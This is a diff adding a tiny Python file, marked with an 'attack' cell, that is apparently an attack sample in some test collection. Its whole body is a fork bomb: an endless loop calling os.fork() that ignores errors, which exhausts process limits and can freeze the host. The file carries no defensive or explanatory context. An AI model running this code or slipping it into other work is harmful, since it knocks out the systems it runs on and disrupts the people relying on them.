@@ -1,0 +1,12 @@
+"""Starts processes that start processes."""
+
+like = "wrong_answers"
+
+# %% attack
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
